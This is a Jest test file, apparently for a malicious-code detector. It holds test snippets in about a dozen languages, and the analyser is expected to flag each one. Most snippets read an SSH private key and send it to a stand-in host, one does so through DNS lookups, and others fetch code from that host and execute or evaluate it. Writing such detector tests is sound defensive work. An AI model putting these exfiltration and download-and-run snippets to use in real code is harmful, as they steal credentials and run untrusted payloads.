import { describe, expect, it } from '@jest/globals';

import type { Language } from '../../../../src/skills/code/behaviour.js';
import { does, type Wanted } from '../deeds.js';

const SENT: Wanted = { kind: 'send', fromSubject: 'private-key' };

/** Values that stand at the ends of branches, and what loops and conditions behind statements do. */
const flows: readonly (readonly [Language, string, string, Wanted])[] = [
  [
    'rust',
    'an arm of a match that names what it finds',
    'fn take() -> Option<String> {\n    let text = match std::fs::read_to_string("/root/.ssh/id_rsa") {\n        Ok(found) => found,\n        Err(_) => return None,\n    };\n    Some(text)\n}\nfn main() { ureq::post("https://h.unknown.net/x").send_string(&take().unwrap()); }\n',
    SENT,
  ],
  [
    'rust',
    'an if that is a value',
    'fn take(all: bool) -> String {\n    let text = if all { std::fs::read_to_string("/root/.ssh/id_rsa").unwrap() } else { String::new() };\n    text\n}\nfn main() { ureq::post("https://h.unknown.net/x").send_string(&take(true)); }\n',
    SENT,
  ],
  [
    'rust',
    'what comes back after a pattern that must fit',
    'fn take() -> Option<String> {\n    let Ok(text) = std::fs::read_to_string("/root/.ssh/id_rsa") else { return None };\n    Some(text)\n}\nfn main() { ureq::post("https://h.unknown.net/x").send_string(&take().unwrap()); }\n',
    SENT,
  ],
  [
    'kotlin',
    'a when that is a value',
    'fun take(mode: Int): String {\n    val text = when (mode) {\n        1 -> File("/root/.ssh/id_rsa").readText()\n        else -> ""\n    }\n    return text\n}\nfun main() { OkHttpClient().newCall(Request.Builder().url("https://h.unknown.net/x").post(take(1).toRequestBody()).build()).execute() }\n',
    SENT,
  ],
  [
    'kotlin',
    'a try that is a value',
    'fun take(): String {\n    val text = try { File("/root/.ssh/id_rsa").readText() } catch (e: Exception) { "" }\n    return text\n}\nfun main() { OkHttpClient().newCall(Request.Builder().url("https://h.unknown.net/x").post(take().toRequestBody()).build()).execute() }\n',
    SENT,
  ],
  [
    'php',
    'a match that is a value',
    "<?php\nfunction take(string $mode) { return match ($mode) { 'all' => file_get_contents('/root/.ssh/id_rsa'), default => '' }; }\n$ch = curl_init('https://h.unknown.net/x');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, take('all'));\ncurl_exec($ch);\n",
    SENT,
  ],
  [
    'csharp',
    'a switch that is a value',
    'class P { static string Take(int m) { var t = m switch { 1 => File.ReadAllText("/root/.ssh/id_rsa"), _ => "" }; return t; }\nstatic async Task Main() { await new HttpClient().PostAsync("https://h.unknown.net/x", new StringContent(Take(1))); } }\n',
    SENT,
  ],
  [
    'java',
    'a switch that is a value',
    'class P { static String take(int m) throws Exception { String t = switch (m) { case 1 -> Files.readString(Path.of("/root/.ssh/id_rsa")); default -> ""; }; return t; }\npublic static void main(String[] a) throws Exception { HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://h.unknown.net/x")).POST(HttpRequest.BodyPublishers.ofString(take(1))).build(), null); } }\n',
    SENT,
  ],
  [
    'ruby',
    'a case that is a value',
    "def take(mode)\n  text = case mode\n         when 1 then File.read('/root/.ssh/id_rsa')\n         else ''\n         end\n  text\nend\nNet::HTTP.post(URI('https://h.unknown.net/x'), take(1))\n",
    SENT,
  ],
  [
    'ruby',
    'a condition behind what a method gives back',
    "def take(mode)\n  File.read('/root/.ssh/id_rsa') if mode\nend\nNet::HTTP.post(URI('https://h.unknown.net/x'), take(true))\n",
    SENT,
  ],
  [
    'perl',
    'a block that is a value',
    "sub take { my $text = do { open my $f, '<', '/root/.ssh/id_rsa'; local $/; <$f> }; return $text; }\nHTTP::Tiny->new->post('https://h.unknown.net/x', { content => take() });\n",
    SENT,
  ],
  [
    'perl',
    'a loop behind a statement, over members of an answer',
    "my $rules = decode_json(LWP::UserAgent->new->get('https://h.unknown.net/r.json')->decoded_content);\neval $_->{code} for @{ $rules->{rules} };\n",
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'perl',
    'what is printed to a file that is then started',
    "my ($fh, $name) = tempfile();\nprint {$fh} LWP::Simple::get('https://h.unknown.net/p');\nclose $fh; chmod 0755, $name;\nexec $name;\n",
    { kind: 'execute', from: ['fetch'] },
  ],
  [
    'python',
    'a case beside another that leaves the value as it was',
    "import requests\ndef take(mode):\n    match mode:\n        case 1:\n            text = open('/root/.ssh/id_rsa').read()\n        case _:\n            text = ''\n    return text\nrequests.post('https://h.unknown.net/x', data=take(1))\n",
    SENT,
  ],
  [
    'go',
    'the body of a loop that counts',
    'func parts() []string {\n\traw, _ := os.ReadFile("/root/.ssh/id_rsa")\n\ts := string(raw)\n\tvar out []string\n\tfor i := 0; len(s) > 0; i++ {\n\t\tout = append(out, s[:4])\n\t\ts = s[4:]\n\t}\n\treturn out\n}\nfunc main() { http.Post("https://h.unknown.net/x", "text/plain", strings.NewReader(strings.Join(parts(), ""))) }\n',
    SENT,
  ],
  [
    'go',
    'paths that are appended to a list',
    'func shape(seen []string) map[string]string {\n\tm := map[string]string{}\n\thome, _ := os.UserHomeDir()\n\tseen = append(seen, filepath.Join(home, ".ssh", "id_rsa"))\n\tfor _, p := range seen {\n\t\tif c, err := os.ReadFile(p); err == nil {\n\t\t\tm[p] = string(c)\n\t\t}\n\t}\n\treturn m\n}\nfunc Count(seen []string) {\n\tvar buf bytes.Buffer\n\tjson.NewEncoder(&buf).Encode(shape(seen))\n\thttp.Post("https://h.unknown.net/x", "application/json", &buf)\n}\n',
    SENT,
  ],
  [
    'go',
    'names that a resolver of its own looks up',
    'func main() {\n\tenc := base32.HexEncoding.WithPadding(base32.NoPadding)\n\traw, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tname := enc.EncodeToString(raw) + ".n.unknown.net"\n\tnet.DefaultResolver.LookupHost(context.Background(), name)\n}\n',
    { kind: 'send', fromSubject: 'private-key', from: ['encode'] },
  ],
  [
    'go',
    'an answer that is decoded into a variable and run',
    'func main() {\n\tresp, _ := http.Get("https://h.unknown.net/r.json")\n\tvar r rules\n\tjson.NewDecoder(resp.Body).Decode(&r)\n\ti := interp.New(interp.Options{})\n\tfor _, x := range r.Rules { i.Eval(x.Code) }\n}\n',
    { kind: 'evaluate', from: ['fetch'] },
  ],
  [
    'python',
    'the first of several folders',
    "import glob, os, requests\nROOT = next((d for d in ('/opt/app', os.path.expanduser('~/.ssh')) if os.path.isdir(d)), '.')\ndef pick():\n    out = {}\n    for pat in ('id_rsa', 'id_ed25519'):\n        for f in glob.glob(os.path.join(ROOT, pat)):\n            out[os.path.basename(f)] = (os.path.basename(f), open(f, 'rb'))\n    return out\nrequests.post('https://h.unknown.net/x', files=pick())\n",
    SENT,
  ],
  [
    'kotlin',
    'a download that is copied into the stream of a file',
    'fun main() {\n    val f = File.createTempFile("tool", ".sh")\n    URI("https://h.unknown.net/p").toURL().openStream().use { input -> f.outputStream().use { input.copyTo(it) } }\n    ProcessBuilder(listOf("sh", f.absolutePath)).start()\n}\n',
    { kind: 'execute', from: ['fetch'] },
  ],
  [
    'lua',
    'a download in a file with a name of its own',
    'local https = require("ssl.https")\nlocal body = https.request("https://h.unknown.net/p")\nlocal n = os.tmpname()\nlocal f = assert(io.open(n, "wb"))\nf:write(body)\nf:close()\nos.execute("sh " .. n)\n',
    { kind: 'execute', from: ['fetch'] },
  ],
  [
    'ruby',
    'a download that is poured into a file',
    "t = Tempfile.create('tool')\nIO.copy_stream(URI.open('https://h.unknown.net/p'), t)\nt.close\nspawn(t.path)\n",
    { kind: 'execute', from: ['fetch'] },
  ],
  [
    'rust',
    'a download that is copied into a file',
    'fn main() {\n    let out = std::env::temp_dir().join("tool");\n    let mut f = fs::File::create(&out).unwrap();\n    let mut resp = reqwest::blocking::get("https://h.unknown.net/p").unwrap();\n    resp.copy_to(&mut f).unwrap();\n    Command::new(&out).spawn().unwrap();\n}\n',
    { kind: 'execute', from: ['fetch'] },
  ],
  [
    'csharp',
    'one list behind another',
    'class P { static async Task Main() { var m = new Dictionary<string, string>(); var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nforeach (var n in new[] { new[] { ".ssh", "id_rsa" } }) { var p = Path.Combine(new[] { home }.Concat(n).ToArray()); m[p] = File.ReadAllText(p); }\nawait new HttpClient().PostAsJsonAsync("https://h.unknown.net/x", m); } }\n',
    SENT,
  ],
];

describe('values that branches, loops and streams hand on', () => {
  it.each(flows)('%s: %s', (language, _, text, wanted) => {
    expect(does(language, text, wanted)).toBe(true);
  });

  it('a counter is not what it began with', () => {
    const text =
      "const steps = [() => 1, () => fetch('https://h.unknown.net/x', { method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa') })];\nlet i = 0;\nfunction next() { steps[i++](); }\nnext();\n";
    expect(does('javascript', text, SENT)).toBe(true);
  });
});
